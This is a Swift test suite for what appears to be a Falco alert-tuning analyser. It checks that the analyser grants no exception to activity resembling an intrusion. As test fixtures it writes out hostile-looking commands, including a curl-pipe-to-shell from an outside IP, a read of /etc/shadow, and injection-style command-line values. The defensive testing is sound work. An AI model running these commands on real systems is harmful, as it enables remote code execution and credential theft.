import FalcoAlerts
import Testing

@testable import Analysis

/// An intruder who repeats what he does, so that it looks like a routine.
@Suite struct RepeatedAttackTests {
    private static let beat = NoiseStream.every(50, 20)

    private func report(
        rule: String = NoiseStream.rule, priority: Priority = .warning, _ change: [String: String?],
        also: (inout NoiseStream) -> Void = { _ in }
    ) throws -> TuningReport {
        var stream = NoiseStream()
        stream.add(at: Self.beat, rule: rule, priority: priority, change)
        stream.add(at: [0, 1000], rule: "Site rule: other", ["proc.cmdline": "other"])
        also(&stream)
        return try stream.report()
    }

    @Test func aToolWhereAnyoneMayPutOneIsNotExcepted() throws {
        for path in ["/tmp/x", "/var/tmp/x", "/dev/shm/x", "/run/user/1000/x", "memfd:x"] {
            let report = try report(["proc.exepath": path, "proc.name": "x", "proc.cmdline": "x"])
            #expect(report.proposals.isEmpty, "\(path)")
        }
    }

    @Test func aProgramThatWasWrittenMeanwhileIsNotExcepted() throws {
        let report = try report([
            "proc.exepath": "/usr/sbin/sysupd", "proc.name": "sysupd", "proc.cmdline": "sysupd",
        ]) { stream in
            stream.add(
                at: [1], rule: "Write below binary dir", priority: .error,
                [
                    "fd.name": "/usr/sbin/sysupd", "proc.exepath": "/usr/bin/cp",
                    "proc.cmdline": "cp x /usr/sbin/sysupd",
                    "evt.arg.flags": "O_WRONLY|O_CREAT",
                ])
        }
        #expect(report.proposals.isEmpty)
        #expect(report.objections.contains("was itself written during this history"), "\(report.objections)")
    }

    @Test func aScriptThatWasWrittenMeanwhileIsNotExcepted() throws {
        let report = try report(["proc.cmdline": "checkd /etc/checkd/job.sh"]) { stream in
            stream.add(
                at: [1], rule: "Write below etc", priority: .error,
                [
                    "fd.name": "/etc/checkd/job.sh", "proc.exepath": "/usr/bin/tee", "proc.tty": "34817",
                    "evt.arg.flags": "O_WRONLY|O_CREAT",
                ])
        }
        #expect(report.proposals.isEmpty)
    }

    /// The shell that runs a written script tells of it by its name only, and so do its children by their parent's.
    @Test func whatAWrittenScriptStartsIsNotExcepted() throws {
        let report = try report(["proc.pname": "sysupd", "proc.cmdline": "grep -c : /etc/shadow"]) { stream in
            stream.add(
                at: [1], rule: "Write below binary dir", priority: .error,
                ["fd.name": "/usr/bin/sysupd", "proc.tty": "34817", "evt.arg.flags": "O_WRONLY|O_CREAT"])
        }
        #expect(report.proposals.isEmpty)
        #expect(report.objections.contains("was itself written during this history"), "\(report.objections)")
    }

    @Test(arguments: [
        ["proc.exepath": "/usr/lib/.x/u", "proc.name": "u"], ["proc.pexepath": "/opt/.cache/u"],
        ["proc.exepath": "/opt/.../u", "proc.name": "u"], ["proc.pexepath": "/opt/..u/u"],
        ["proc.cmdline": "tar -cf /var/tmp/x /etc"], ["proc.cmdline": "checkd --out=/dev/shm/x"],
        ["proc.cmdline": "checkd >/tmp/x"], ["proc.cmdline": "checkd 2>/tmp/x"],
        ["proc.cmdline": "checkd -d @/tmp/x"], ["proc.cmdline": "checkd '/tmp/x'"],
        ["proc.cmdline": "checkd \"/tmp/x\""], ["proc.cmdline": "checkd -o/tmp/x"],
        ["proc.cmdline": "checkd ;/tmp/x"], ["proc.cmdline": "checkd file:///tmp/x"],
        ["proc.cmdline": "checkd host:/tmp/x"], ["proc.cmdline": "checkd $(</tmp/x)"],
        ["proc.cmdline": "checkd //tmp//x"], ["proc.cmdline": "checkd /srv/../tmp/./x"],
        ["proc.cmdline": "checkd ../../tmp/x"], ["proc.cmdline": "checkd /tmp/"],
    ])
    func whatHidesOrUsesOpenPlacesIsNotExcepted(change: [String: String]) throws {
        #expect(try report(change.mapValues { $0 }).proposals.isEmpty)
    }

    /// What only looks like it.
    @Test(arguments: [
        "checkd --out /srv/checkd/tmp/x", "checkd ../.. ./x", "checkd http://site.example.test/tmp/x",
        "checkd srv/tmp/x", "checkd --out=/tmpfiles/x",
    ])
    func otherPlacesAreNoReason(command: String) throws {
        #expect(try !report(["proc.cmdline": command]).proposals.isEmpty)
    }

    @Test(arguments: [true, false]) func whatBeginsAfterAnIncidentIsNotExcepted(isInSamePlace: Bool) throws {
        var stream = NoiseStream()
        stream.add(at: NoiseStream.every(50, 20, from: 100))
        stream.add(at: [0, 1100], rule: "Site rule: other", ["proc.cmdline": "other"])
        let container = isInSamePlace ? "host" : "0123456789ab"
        stream.add(
            at: [50], rule: "Site rule: planted", ["user.uid": "33", "container.id": container])
        let incident = TuningReport.Incident(id: "x", title: "an intruder", needsAttention: true, alerts: 1)
        let report = try stream.survey { $0["user.uid"] == "33" ? 7 : 0 }
            .study(incidents: IncidentMap([7: incident])).report()
        #expect(report.proposals.isEmpty == isInSamePlace)
        #expect(report.objections.contains("It began after an incident") == isInSamePlace)
    }

    /// An incident of which nobody knows the time may have come before all else.
    @Test func whatMayHaveBegunAfterAnIncidentIsNotExcepted() throws {
        var stream = NoiseStream()
        stream.add(at: NoiseStream.every(50, 20, from: 100))
        stream.add(at: [0, 1100], rule: "Site rule: other", ["proc.cmdline": "other"])
        stream.add(at: [50], rule: "Site rule: planted", ["user.uid": "33"])
        let incident = TuningReport.Incident(id: "x", title: "an intruder", needsAttention: true, alerts: 1)
        var survey = NoiseSurvey(knowledge: AnalyzerTests.knowledge)
        for var values in stream.sorted {
            let isPlanting = values.rule == "Site rule: planted"
            if isPlanting { values.time = nil }
            survey.take(try values.alert(), group: isPlanting ? 7 : 0)
        }
        let report = survey.study(incidents: IncidentMap([7: incident])).report()
        #expect(report.proposals.isEmpty)
        #expect(report.objections.contains("It may have begun after an incident"), "\(report.objections)")
    }

    @Test func aShellOnAHostIsNothingToStandOn() throws {
        let report = try report(
            rule: "Site rule: spawned",
            [
                "proc.exepath": "/usr/bin/bash", "proc.name": "bash", "fd.name": nil,
                "proc.cmdline": "bash -c curl http://203.0.113.66/x | sh", "evt.type": "execve",
                "evt.arg.flags": nil,
            ])
        #expect(report.proposals.isEmpty)
    }

    /// What an exception for the routine would hide with it keeps it away, or narrows it.
    @Test func anAttackWithinTheRoutineNarrowsIt() throws {
        var stream = NoiseStream()
        stream.add(at: Self.beat)
        stream.add(at: [0, 1000], rule: "Site rule: other", ["proc.cmdline": "other"])
        // The same program, command and parent, on other files, as another user.
        stream.add(at: [333], ["user.uid": "33", "user.name": "www-data", "proc.aname[2]": "sshd"])
        var survey = try stream.survey { alert in alert["user.uid"] == "33" ? 7 : 0 }
        let incident = TuningReport.Incident(id: "x", title: "an intruder", needsAttention: true, alerts: 1)
        var report = survey.study(incidents: IncidentMap([7: incident])).report()
        #expect(report.proposals.count == 1)
        #expect(report.first?.replay.saved == 20)
        #expect(report.first?.replay.incidents.isEmpty == true)
        // An incident that needs no attention does not stand in the way, and is named.
        var calm = incident
        calm.needsAttention = false
        report = survey.study(incidents: IncidentMap([7: calm])).report()
        #expect(report.proposals.count == 1)

        // Now nothing that tells tells them apart: they share all that lasts.
        stream = NoiseStream()
        stream.add(at: Self.beat)
        stream.add(at: [0, 1000], rule: "Site rule: other", ["proc.cmdline": "other"])
        var count = 0
        survey = try stream.survey { _ in
            count += 1
            return count == 9 ? 7 : 0
        }
        report = survey.study(incidents: IncidentMap([7: incident])).report()
        #expect(report.proposals.isEmpty)
        #expect(
            report.objections.contains("incident that needs attention (an intruder)"), "\(report.objections)")
        #expect(
            survey.study(incidents: IncidentMap([7: calm])).report().first?.replay.incidents == [
                TuningReport.Incident(id: "x", title: "an intruder", needsAttention: false, alerts: 1)
            ])
    }

    @Test func whatLooksLikeAnAttackIsNarrowedAway() throws {
        var stream = NoiseStream()
        stream.add(at: Self.beat, ["proc.cwd": "/var/lib/checkd/"])
        // A field that reports do not stand on is all that differs; the alert speaks for an attack.
        stream.add(at: [500], ["proc.cwd": "/tmp/.x/", "user.name": "www-data", "user.uid": "33"])
        stream.add(at: [0, 1000], rule: "Site rule: other", ["proc.cmdline": "other"])
        let survey = try stream.survey { alert in alert["user.uid"] == "33" ? 1 : 0 }
        let incident = TuningReport.Incident(id: "x", title: "t", needsAttention: true, alerts: 1)
        let report = survey.study(incidents: IncidentMap([1: incident])).report()
        let proposal = try #require(report.proposals.first, "\(report.objections)")
        #expect(!proposal.narrowedBy.isEmpty)
        #expect(proposal.replay.saved == 20)
        #expect(report.faults == [])
    }
}
